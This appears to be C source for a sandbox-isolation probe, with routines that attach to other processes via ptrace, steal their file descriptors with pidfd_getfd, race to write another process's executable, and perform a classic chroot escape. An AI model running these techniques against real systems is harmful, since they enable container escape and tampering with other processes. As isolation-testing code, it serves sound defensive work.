/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Attacks on other processes of the same pid namespace, and on the root. */
#include <dirent.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>

#include "probe.h"

#define STALK_FDS 65

static double now_seconds(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static double deadline(int argc, char **argv)
{
	return now_seconds() + (argc > 0 ? strtod(argv[0], NULL) : 10.0);
}

/* /proc/PID/NAME followed: where it leads to. */
static void try_magic_link(const char *pid, const char *name)
{
	char path[300], what[300];
	struct stat st;

	(void)snprintf(path, sizeof(path), "/proc/%s/%s", pid, name);
	if (stat(path, &st) == 0) {
		(void)snprintf(what, sizeof(what), "reached %s/%s", pid, name);
		print_node(what, &st);
	}
}

static void try_fds(const char *pid)
{
	char path[300], what[300];
	struct dirent *d;
	struct stat st;
	int pidfd, fd;
	DIR *dir;

	(void)snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (d = readdir(dir)))
		if (d->d_name[0] != '.') {
			char name[80];

			(void)snprintf(name, sizeof(name), "fd/%.60s", d->d_name);
			try_magic_link(pid, name);
		}
	if (dir)
		(void)closedir(dir);
	pidfd = (int)syscall(SYS_pidfd_open, (pid_t)strtoul(pid, NULL, 10), 0);
	for (int i = 0; pidfd >= 0 && i < STALK_FDS; i++) {
		fd = (int)syscall(SYS_pidfd_getfd, pidfd, i, 0);
		if (fd < 0)
			continue;
		(void)snprintf(what, sizeof(what), "stolen %s/%d", pid, i);
		if (fstat(fd, &st) == 0)
			print_node(what, &st);
		(void)close(fd);
	}
	if (pidfd >= 0)
		(void)close(pidfd);
}

static void try_ptrace(const char *text)
{
	pid_t pid = (pid_t)strtoul(text, NULL, 10);
	int status;

	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) < 0)
		return;
	(void)printf("attached %s\n", text);
	(void)waitpid(pid, &status, __WALL);
	(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

/* Every pid that wasn't there a moment ago, as fast as /proc can be read. */
int verb_stalk(int argc, char **argv)
{
	static const char *const links[] = { "root", "cwd", "exe" };
	static uint8_t seen[1 << 16];
	double end = deadline(argc, argv);
	unsigned long grabbed = 0;
	struct dirent *d;
	DIR *proc = opendir("/proc");

	if (!proc) {
		(void)printf("/proc: %s\n", error_name(errno));
		return 1;
	}
	while (now_seconds() < end) {
		rewinddir(proc);
		while ((d = readdir(proc))) {
			unsigned long pid;

			if (!is_pid(d->d_name))
				continue;
			pid = strtoul(d->d_name, NULL, 10) % sizeof(seen);
			if ((pid_t)pid == getpid() || seen[pid] > 3)
				continue;
			seen[pid]++; /* a process that joins changes: look again */
			grabbed++;
			try_ptrace(d->d_name);
			for (size_t i = 0; i < COUNT(links); i++)
				try_magic_link(d->d_name, links[i]);
			try_fds(d->d_name);
		}
	}
	(void)closedir(proc);
	(void)printf("looked %lu\n", grabbed);
	return 0;
}

/* O_PATH while it runs, for writing when it no longer does: ETXTBSY ends with the last exec. */
static bool grab_exe(const char *pid, uint64_t *ret_ino)
{
	char path[300];
	struct stat st;
	bool got = false;
	int fd, again;

	(void)snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (fstat(fd, &st) == 0) {
		*ret_ino = st.st_ino;
		(void)snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		for (int i = 0; i < 200 && !got; i++) {
			again = open(path, O_WRONLY | O_CLOEXEC);
			if (again < 0 && errno != ETXTBSY)
				break;
			if (again >= 0) {
				print_node("WRITABLE", &st);
				(void)close(again);
				got = true;
			}
		}
	}
	(void)close(fd);
	return got;
}

int verb_exegrab(int argc, char **argv)
{
	double end = deadline(argc, argv);
	unsigned long tries = 0;
	unsigned won = 0;
	uint64_t ino, inodes[64];
	size_t n = 0, i;
	struct dirent *d;
	DIR *proc = opendir("/proc");

	while (proc && now_seconds() < end) {
		rewinddir(proc);
		while ((d = readdir(proc))) {
			if (!is_pid(d->d_name) || (pid_t)strtoul(d->d_name, NULL, 10) == getpid())
				continue;
			ino = 0;
			tries++;
			won += grab_exe(d->d_name, &ino);
			for (i = 0; i < n && inodes[i] != ino; i++)
				;
			if (ino && i == n && n < COUNT(inodes)) {
				inodes[n++] = ino;
				(void)printf("exe inode %llu\n", (unsigned long long)ino);
			}
		}
	}
	if (proc)
		(void)closedir(proc);
	(void)printf("tries %lu writable %u\n", tries, won);
	return won != 0;
}

/* A root deeper than the working directory lets ".." pass: the classic way out of chroot(2). */
int verb_chrootbreak(int argc, char **argv)
{
	struct stat before, after;
	char name[] = "/tmp/probe-XXXXXX";
	int top = open("/", O_PATH | O_DIRECTORY | O_CLOEXEC);

	(void)argc;
	(void)argv;
	if (stat("/", &before) < 0 || !mkdtemp(name)) {
		(void)printf("mkdtemp: %s\n", error_name(errno));
		return 1;
	}
	if (chroot(name) < 0) {
		(void)printf("chroot: %s\n", error_name(errno));
		(void)rmdir(name);
		return 1;
	}
	(void)fchdir(top);
	(void)unlinkat(top, name + 1, AT_REMOVEDIR);
	for (int i = 0; i < 64; i++)
		(void)chdir("..");
	if (chroot(".") < 0 || stat("/", &after) < 0) {
		(void)printf("climb: %s\n", error_name(errno));
		return 1;
	}
	print_node("before", &before);
	print_node("after", &after);
	(void)printf("%s\n", before.st_dev == after.st_dev && before.st_ino == after.st_ino
				     ? "contained"
				     : "ESCAPED");
	return 0;
}
